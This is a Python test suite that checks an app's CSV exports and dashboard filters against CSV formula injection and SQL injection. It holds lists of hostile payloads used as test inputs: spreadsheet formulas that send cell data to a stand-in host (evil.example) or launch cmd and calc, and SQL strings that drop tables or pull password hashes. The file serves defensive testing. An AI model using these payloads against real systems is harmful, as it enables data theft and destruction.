"""Hostile vendor data reaching the CSV export, and SQL injection in every dashboard filter.

Counted invariants: CSV cells a spreadsheet would run as a formula (0 — every cell of every
export is parsed and checked), filter queries that error (0) or return rows they should not
(0), and tables changed by a filter (0). On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from conftest import count
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import String, cast, func, inspect, select
from sqlalchemy.orm import Session

from app import actions
from db import queries
from db.auth import Actor
from db.blobs import LocalBlobStore
from db.export import jobs_csv, related_records_csv
from db.filters import JobFilter
from db.models import AuditEntry, Base, Connection, PipelineJob, RelatedRecord, Tenant, WebhookDelivery
from db.search_text import search_text

pytestmark = pytest.mark.reliability

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for invoice")',
    "+SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
    "+1",
    "-1",
    "=",
    # White space before the sign (spreadsheets trim it), a line feed, full-width signs.
    " =1+1",
    "  @SUM(1)",
    "\n=1",
    "\u3000=1",
    '\uff1dHYPERLINK("http://evil.example")',
    " \uff0b1",
    "\uff0d1",
    "\uff20cmd",
]
FORMULA_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
EDITOR = Actor(email="editor@rel.test", role="EDITOR")


def _unescaped(cell: str) -> bool:
    """OWASP's CSV-injection rule, widened: a tab, CR or LF first, or a sign (ASCII or full-width)
    as the first character after white space."""
    return cell.startswith(("\t", "\r", "\n")) or cell.lstrip().startswith(FORMULA_SIGNS)


def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _check_every_cell(data: bytes, tally_name: str) -> list[list[str]]:
    tally = count(tally_name)
    rows = _cells(data)
    bad = [cell for row in rows for cell in row if _unescaped(cell)]
    tally["cells"] += sum(len(r) for r in rows)
    tally["unescaped_formulas"] += len(bad)
    assert bad == []
    return rows


def _seed_formulas(session: Session) -> tuple[list[int], int]:
    tenants = [Tenant(name=f"{p[:150]} #{i}") for i, p in enumerate(FORMULAS)]
    session.add_all(tenants)
    session.flush()
    jobs = []
    for i, payload in enumerate(FORMULAS):
        job = PipelineJob(
            tenant_id=tenants[i].id,
            job_type=payload[:64],
            status="FAILED",
            params={"contact_name": payload, payload[:40]: "key is a formula"},
            error=payload,
            created_by=payload[:300],
            attempts=1,
        )
        jobs.append(job)
    session.add_all(jobs)
    session.flush()
    for i, payload in enumerate(FORMULAS):
        session.add(Connection(tenant_id=tenants[i].id, system="hubspot", external_org_id=payload[:200]))
        session.add_all(
            [
                RelatedRecord(job_id=jobs[0].id, tenant_id=tenants[0].id, system="hubspot",
                              record_type=payload[:64], record_id=payload, action="UPDATE"),
                RelatedRecord(job_id=jobs[0].id, tenant_id=tenants[0].id, system="xero", record_type="contact",
                              record_id=f"c-{i}", action="READ", url=payload),
                RelatedRecord(job_id=jobs[0].id, tenant_id=tenants[0].id, system="hubspot", record_type="contact",
                              record_id=payload, action="READ"),
            ]
        )  # fmt: skip
    session.commit()
    return [j.id for j in jobs], jobs[0].id


def test_formula_payloads_in_vendor_data_never_reach_a_csv_unescaped(session: Session) -> None:
    ids, first = _seed_formulas(session)
    jobs = _check_every_cell(b"".join(jobs_csv(session, JobFilter(), chunk_rows=4)), "csv_export")
    assert len(jobs) == len(ids) + 1  # the header and every job: nothing was dropped to pass
    records = _check_every_cell(b"".join(related_records_csv(session, first)), "csv_export")
    assert len(records) == 3 * len(FORMULAS) + 1
    session.commit()  # (a streamed export leaves its connection streaming; see the blob test below)
    # Through the dashboard actions too (what the Download buttons serve).
    _check_every_cell(actions.export_related_records(session, EDITOR, first), "csv_export")
    _check_every_cell(b"".join(actions.export_jobs(session, EDITOR, JobFilter(statuses=("FAILED",)))), "csv_export")
    session.commit()
    # The payload is still there, only defused: the text survives behind the apostrophe.
    errors = {row[11] for row in jobs[1:]}
    assert {"'" + p for p in FORMULAS} <= errors


CELL_TEXT = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(),
    st.sampled_from(FORMULA_SIGNS).map(lambda c: c + "x"),
    st.tuples(st.text(alphabet=" \t\r\n\u3000\xa0", max_size=3), st.sampled_from(FORMULA_SIGNS)).map("".join),
)


def test_a_large_export_to_the_blob_store_is_escaped_too(session: Session, tmp_path: Path) -> None:
    _seed_formulas(session)
    store = LocalBlobStore(tmp_path / "blobs")
    key = actions.export_jobs_to_blob(session, EDITOR, store, JobFilter(), "zixly-jobs.csv")
    _check_every_cell((tmp_path / "blobs" / key).read_bytes(), "csv_export")


@settings(max_examples=300, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.lists(CELL_TEXT, min_size=1, max_size=6), min_size=1, max_size=5))
def test_no_text_whatsoever_leaves_the_csv_encoder_as_a_formula(rows: list[list[str]]) -> None:
    from db.export import BOM, _encode

    parsed = _check_every_cell(BOM + _encode(rows), "csv_encoder_property")
    assert len(parsed) == len(rows)


# -- SQL injection in every dashboard filter ----------------------------------------------------------

INJECTIONS = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE pipeline_jobs; --",
    "1; DELETE FROM tenants",
    '" OR ""="',
    "%' OR 1=1 --",
    "%",
    "_",
    "\\",
    "\\%",
    "' UNION SELECT id, email, role, password_hash, NULL FROM users --",
    "'||(SELECT password_hash FROM users LIMIT 1)||'",
    "1' AND pg_sleep(3) IS NULL --",
    "admin'--",
    "$$; DROP TABLE users; $$",
    "') OR ('a'='a",
    "*/ OR 1=1 /*",
    '{"contact": 1} OR 1=1',
    "FAILED' OR status <> 'FAILED",
    "💥'; --",
]


def _seed_plain(session: Session) -> dict[str, int]:
    acme, bolt = Tenant(name="Acme"), Tenant(name="Bolt")
    session.add_all([acme, bolt])
    session.flush()
    now = dt.datetime.now(dt.UTC)
    for i in range(12):
        job = PipelineJob(
            tenant_id=(acme if i % 2 else bolt).id, job_type="xero-invoice-paid" if i % 3 else "noop",
            status=("FAILED", "COMPLETED", "QUEUED")[i % 3], params={"invoice": f"INV-{i:04d}", "order_id": i},
            error="HubSpot answered 429" if i % 3 == 0 else None, created_at=now - dt.timedelta(hours=i),
        )  # fmt: skip
        session.add(job)
        session.flush()
        session.add(RelatedRecord(job_id=job.id, tenant_id=job.tenant_id, system="xero", record_type="invoice",
                                  record_id=f"INV-{i:04d}", action="READ"))  # fmt: skip
    session.add(WebhookDelivery(source="xero", delivery_id="d-1", tenant_id=acme.id, headers={}, body=b"{}",
                                signature_ok=True, outcome="accepted", job_ids=[]))  # fmt: skip
    session.add(AuditEntry(actor="admin@rel.test", action="login", allowed=True))
    session.commit()
    return {"acme": acme.id, "bolt": bolt.id}


def _table_counts(session: Session) -> dict[str, int]:
    names = sorted(inspect(session.get_bind()).get_table_names())
    assert set(Base.metadata.tables) <= set(names)
    return {name: session.execute(select(func.count()).select_from(Base.metadata.tables[name])).scalar_one()
            for name in Base.metadata.tables}  # fmt: skip


def _text_matches(session: Session, needle: str) -> int:
    """What a text search for ``needle`` should find, worked out in Python from the raw rows.

    The search reads the params' values (``db.search_text``: no key names, no digests) and the error.
    """
    rows = session.execute(select(cast(PipelineJob.params, String), PipelineJob.error)).all()
    low = needle.lower()
    return sum(
        1 for params, error in rows if low in (search_text(params) or "").lower() or low in (error or "").lower()
    )


def test_sql_injection_strings_in_every_filter_error_nothing_and_find_nothing_extra(session: Session) -> None:
    tenants = _seed_plain(session)
    before = _table_counts(session)
    tally = count("sql_injection")
    wide_from, wide_to = dt.datetime(1, 1, 2, tzinfo=dt.UTC), dt.datetime(9999, 12, 30, tzinfo=dt.UTC)
    for payload in INJECTIONS:
        checks = {
            "text search": (len(queries.browse_jobs(session, JobFilter(text=payload), page_size=100).rows),
                            _text_matches(session, payload)),
            "text search count": (queries.count_jobs(session, JobFilter(text=payload), cap=1000),
                                  _text_matches(session, payload)),
            "job type": (len(queries.browse_jobs(session, JobFilter(job_types=(payload,))).rows), 0),
            "status": (len(queries.browse_jobs(session, JobFilter(statuses=(payload,))).rows), 0),
            "all filters with a date range": (
                len(queries.browse_jobs(session, JobFilter(tenant_ids=(tenants["acme"],), job_types=(payload,),
                                                           statuses=(payload,), created_from=wide_from,
                                                           created_to=wide_to, text=payload)).rows), 0),
            "record lookup": (len(queries.lookup_record(session, payload)), 0),
            "record lookup in a tenant": (len(queries.lookup_record(session, payload, (tenants["acme"],))), 0),
            "deliveries by source": (len(queries.deliveries(session, source=payload)), 0),
            "audit log by actor": (len(queries.audit_log(session, actor=payload)), 0),
            "audit log by action": (len(queries.audit_log(session, action=payload)), 0),
            "export": (len(_cells(b"".join(jobs_csv(session, JobFilter(text=payload))))) - 1,
                       _text_matches(session, payload)),
        }  # fmt: skip
        for name, (got, expected) in checks.items():
            tally["queries"] += 1
            if got != expected:
                tally["extra_rows"] += 1
            assert got == expected, f"{name} with {payload!r}: {got} rows, expected {expected}"
        session.rollback()
    # Tenant ids, statuses and the date range are typed; their extremes are no error either.
    for job_filter in (
        JobFilter(tenant_ids=(2**31 - 1, -1, 0)),
        JobFilter(created_from=wide_from, created_to=wide_to),
        JobFilter(created_from=wide_to, created_to=wide_from),
    ):
        tally["queries"] += 1
        queries.browse_jobs(session, job_filter)
    assert _table_counts(session) == before
    assert tally["extra_rows"] == 0
    # A control: the search does find what it should (the filters are not simply broken).
    assert len(queries.browse_jobs(session, JobFilter(text="INV-0003")).rows) == 1
    assert len(queries.lookup_record(session, "inv-0003")) == 1
    assert json.dumps(before)  # the counts are plain numbers
